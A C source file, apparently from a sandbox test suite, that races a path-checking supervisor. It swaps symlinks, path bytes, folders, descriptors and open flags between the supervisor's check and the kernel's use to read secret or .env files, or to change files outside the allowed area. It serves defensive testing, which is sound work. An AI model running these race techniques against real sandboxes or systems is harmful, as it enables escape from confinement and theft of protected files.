/*
 * Races whoever looks at a path, a descriptor or a structure before the kernel does. race-path <way> <call> <inside> <outside> <grant>
 * Family: races
 * Facts: between a look at a caller's memory, links or descriptors and the kernel's own look, another thread can change them; for
 * seccomp notifications the manual says so (man 2 seccomp_unotify, "time of check, time of use"). `symlink` exchanges a link that
 * the path leads through, `memory` the bytes of the path, `folder` a folder above it by a link, `descriptor` what lies behind the
 * number of a folder or file, `how` the flags of an open, `second` the bytes of the second path.
 * Witness: files outside that changed; the decoy in the output.
 * Cases: name | what it tries | attack | twin | marks
 *   open-symlink | read by a path whose link is exchanged | symlink open {inside} {secret} {grant} | once open {inside} {inside} {grant} | event=file.read slow
 *   open-memory | read by a path whose bytes are exchanged | memory open {inside} {secret} {grant} | once open {inside} {inside} {grant} | event=file.read slow
 *   open-folder | read by a path whose folder is exchanged | folder open {inside} {secret} {grant} | once open {inside} {inside} {grant} | event=file.read slow
 *   open-descriptor | read below a descriptor that is exchanged | descriptor open {inside} {secret} {grant} | once open {inside} {inside} {grant} | event=file.read slow
 *   openat2-memory | read with openat2 by a path whose bytes are exchanged | memory openat2 {inside} {secret} {grant} | once openat2 {inside} {inside} {grant} | event=file.read slow
 *   openat2-how | open with flags that are exchanged | how openat2 {inside} {secret} {grant} | once openat2 {inside} {inside} {grant} | event=file.read,file.write slow
 *   chmod-descriptor | change the mode behind a descriptor that is exchanged | descriptor fchmodat {inside} {secret} {grant} | once fchmodat {inside} {inside} {grant} | event=file.attr slow
 *   fchmod-number | change the mode of an open file whose number is exchanged | number fchmod {inside} {readonly} {grant} | once chmod {inside} {inside} {grant} | event=file.attr slow
 *   utimensat-symlink | change times by a path whose link is exchanged | symlink utimensat {inside} {secret} {grant} | once utimensat {inside} {inside} {grant} | event=file.attr slow
 *   utimensat-memory | change times by a path whose bytes are exchanged | memory utimensat {inside} {secret} {grant} | once utimensat {inside} {inside} {grant} | event=file.attr slow
 *   setxattr-symlink | set an attribute by a path whose link is exchanged | symlink setxattr {inside} {secret} {grant} | once setxattr {inside} {inside} {grant} | event=file.attr slow
 *   setxattr-memory | set an attribute by a path whose bytes are exchanged | memory setxattr {inside} {secret} {grant} | once setxattr {inside} {inside} {grant} | event=file.attr slow
 *   chown-folder | change the owner by a path whose folder is exchanged | folder chown {inside} {secret} {grant} | once chown {inside} {inside} {grant} | event=file.attr slow
 *   truncate-symlink | shorten by a path whose link is exchanged | symlink truncate {inside} {secret} {grant} | once truncate {inside} {inside} {grant} | event=file.write slow
 *   truncate-memory | shorten by a path whose bytes are exchanged | memory truncate {inside} {secret} {grant} | once truncate {inside} {inside} {grant} | event=file.write slow
 *   link-memory | link a file whose path is exchanged | memory link {inside} {secret} {grant} | once link {inside} {inside} {grant} | event=file.create,file.rename,file.write slow
 *   rename-memory | rename a file whose path is exchanged | memory rename {inside} {secret} {grant} | once link {inside} {inside} {grant} | event=file.rename slow
 *   link-second | link its own file to a name that is exchanged | second link {inside} {outside}/planted {grant} | once link {inside} {inside} {grant} | event=file.create,file.rename,file.write slow
 *   rename-second | rename its own file to a name that is exchanged | second rename {inside} {outside}/planted {grant} | once link {inside} {inside} {grant} | event=file.rename slow
 *   kept-memory | read what is kept back by a path whose bytes are exchanged | memory open {inside} {env} {grant} | once open {inside} {inside} {grant} | event=file.read slow kept
 *   kept-symlink | read what is kept back by a link that is exchanged | symlink open {inside} {env} {grant} | once open {inside} {inside} {grant} | event=file.read slow kept
 *   kept-second | rename its own file to a name that is kept back, in turn | second rename {inside} {grant}/sub/.env {grant} | once link {inside} {inside} {grant} | event=file.rename slow kept
 *   unlink-folder | delete by a path whose folder is exchanged | folder unlink {inside} {secret} {grant} | once link {inside} {inside} {grant} | event=file.delete slow
 *   watch-memory | watch a folder whose path is exchanged | memory watch {inside} {secret} {grant} | once watch {inside} {inside} {grant} | event=file.read,syscall slow surface
 */
#include "attack.h"

#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/inotify.h>
#include <sys/xattr.h>
#include <time.h>

static atomic_bool stop;
static const char *way, *inside, *outside, *grant;
static char other_name[4200], shared[4200], link_path[4096], deep[4096], inner_folder[4096], outer_folder[4096];
static struct open_how how = {.flags = O_RDONLY};
enum { number = 200 };

static void parent_of(char *to, const char *path) {
  snprintf(to, 4096, "%s", path);
  *strrchr(to, '/') = 0;
}

static void *exchange(void *nothing) {
  (void)nothing;
  char next[4200], real[4200], aside[4200];
  snprintf(next, sizeof next, "%s.new", link_path);
  snprintf(real, sizeof real, "%s/turn", grant);
  snprintf(aside, sizeof aside, "%s/aside", grant);
  int first = -1, second = -1;
  if (is(way, "descriptor")) first = open(inner_folder, O_PATH | O_DIRECTORY), second = open(outer_folder, O_PATH | O_DIRECTORY);
  if (is(way, "number")) first = open(inside, O_RDONLY), second = open(outside, O_RDONLY);
  for (unsigned turn = 0; !atomic_load_explicit(&stop, memory_order_relaxed); turn++) {
    const char *target = turn & 1 ? outside : inside;
    if (is(way, "symlink")) {
      if (symlink(target, next) == 0) rename(next, link_path);
    } else if (is(way, "folder")) {
      if (turn & 1) {
        rename(real, aside);
        (void)!symlink(outer_folder, real);
      } else {
        unlink(real);
        rename(aside, real);
      }
    } else if (is(way, "memory")) memcpy(shared, target, strlen(target) + 1);
    else if (is(way, "second")) {
      const char *name = turn & 1 ? outside : other_name;
      memcpy(shared, name, strlen(name) + 1);
    }
    else if (is(way, "how")) how.flags = turn & 1 ? O_WRONLY | O_TRUNC : O_RDONLY;
    else if (first >= 0) dup2(turn & 1 ? second : first, number);
  }
  return NULL;
}

static int watcher;

static long call(const char *name, int base, const char *path) {
  const struct timespec times[2] = {{.tv_sec = 86400}, {.tv_sec = 86400}};
  char other[4200];
  if (is(name, "open") || is(name, "openat2")) {
    int file = is(name, "open") ? openat(base, path, O_RDONLY) : (int)syscall(SYS_openat2, base, path, &how, sizeof how);
    if (file < 0) return file;
    char content[64] = "";
    (void)!read(file, content, sizeof content - 1);
    close(file);
    if (strstr(content, "decoy") != NULL) {
      content[strcspn(content, "\n")] = 0;
      reached(content);
    }
    return 0;
  }
  if (is(name, "chmod") || is(name, "fchmodat")) return fchmodat(base, path, 0777, 0);
  if (is(name, "fchmod")) return fchmod(number, 0777);
  if (is(name, "utimensat")) return utimensat(base, path, times, 0);
  if (is(name, "setxattr")) return setxattr(path, "user.raced", "1", 1, 0);
  if (is(name, "chown")) return chown(path, getuid(), getgid());
  if (is(name, "truncate")) return truncate(path, 3);
  if (is(name, "unlink")) {
    long result = unlink(path);
    close(open(deep, O_CREAT | O_WRONLY, 0600));
    return result;
  }
  if (is(name, "watch")) {
    int mark = inotify_add_watch(watcher, path, IN_OPEN);
    if (mark < 0) return mark;
    /* whether it is the outside file that is watched now, /proc tells by its number */
    char line[512] = "", wanted[64];
    struct stat status;
    snprintf(other, sizeof other, "/proc/self/fdinfo/%d", watcher);
    int information = open(other, O_RDONLY);
    (void)!read(information, line, sizeof line - 1);
    close(information);
    if (stat(outside, &status) == 0) {
      snprintf(wanted, sizeof wanted, "ino:%lx", (unsigned long)status.st_ino);
      if (strstr(line, wanted) != NULL) reached("the outside file is watched");
    }
    inotify_rm_watch(watcher, mark);
    return 0;
  }
  if (is(way, "second")) {
    long result = is(name, "link") ? link(inside, shared) : rename(inside, shared);
    unlink(other_name);
    close(open(inside, O_CREAT | O_WRONLY, 0600));
    return result;
  }
  snprintf(other, sizeof other, "%s/other-%d", grant, getpid());
  if (is(name, "link")) {
    long result = link(path, other);
    if (result == 0) unlink(other);
    return result;
  }
  if (is(name, "rename")) {
    long result = rename(path, other);
    if (result == 0) rename(other, inside);
    return result;
  }
  errno = EINVAL;
  broken("call");
}

static bool has_changed(const struct stat *before) {
  struct stat now;
  if (stat(outside, &now) < 0) return !is(way, "second");
  return is(way, "second") || now.st_ctim.tv_nsec != before->st_ctim.tv_nsec || now.st_ctim.tv_sec != before->st_ctim.tv_sec;
}

int main(int argc, char **argv) {
  way = argument(argc, argv, 1);
  const char *name = argument(argc, argv, 2);
  inside = argument(argc, argv, 3);
  outside = argument(argc, argv, 4);
  grant = argument(argc, argv, 5);
  watcher = inotify_init1(IN_CLOEXEC);
  if (is(way, "once")) {
    must(name, call(name, AT_FDCWD, inside));
    reached(name);
  }
  parent_of(inner_folder, inside);
  parent_of(outer_folder, outside);
  snprintf(link_path, sizeof link_path, "%.4000s/flip", grant);
  snprintf(deep, sizeof deep, "%.2000s/turn/%.1000s", grant, strrchr(outside, '/') + 1);
  int base = AT_FDCWD;
  const char *path = shared;
  memcpy(shared, inside, strlen(inside) + 1);
  if (is(way, "symlink")) {
    prepare("symlink", symlink(inside, link_path));
    path = link_path;
  } else if (is(way, "folder")) {
    char turn[4200];
    snprintf(turn, sizeof turn, "%s/turn", grant);
    prepare("mkdir", mkdir(turn, 0700));
    close((int)prepare("create", open(deep, O_CREAT | O_WRONLY, 0600)));
    path = deep;
  } else if (is(way, "descriptor")) {
    char copy[4200];
    snprintf(copy, sizeof copy, "%.2000s/%.1000s", inner_folder, strrchr(outside, '/') + 1);
    close((int)prepare("create", open(copy, O_CREAT | O_WRONLY, 0600)));
    base = number;
    path = strrchr(outside, '/') + 1;
  } else if (is(way, "how")) path = outside;
  struct stat before = {0};
  /* what cannot even be seen cannot be raced for; a second path is yet to be made */
  if (is(way, "second")) {
    snprintf(other_name, sizeof other_name, "%.4000s/other-%d", grant, getpid());
    snprintf(shared, sizeof shared, "%s", other_name);
  } else must("stat", stat(outside, &before));
  pthread_t thread;
  if (pthread_create(&thread, NULL, exchange, NULL) != 0) broken("thread");
  struct timespec begin, moment;
  clock_gettime(CLOCK_MONOTONIC, &begin);
  long tries = 0, went = 0;
  do {
    if (call(name, base, path) >= 0) went++;
    tries++;
    clock_gettime(CLOCK_MONOTONIC, &moment);
    if (tries % 8 == 0 && has_changed(&before)) break;
  } while ((moment.tv_sec - begin.tv_sec) * 1000 + (moment.tv_nsec - begin.tv_nsec) / 1000000 < 400);
  atomic_store(&stop, true);
  pthread_join(thread, NULL);
  if (has_changed(&before)) reached("the outside file changed");
  char step[96];
  snprintf(step, sizeof step, "%ld tries, %ld of them inside", tries, went);
  refused(step, EACCES);
}
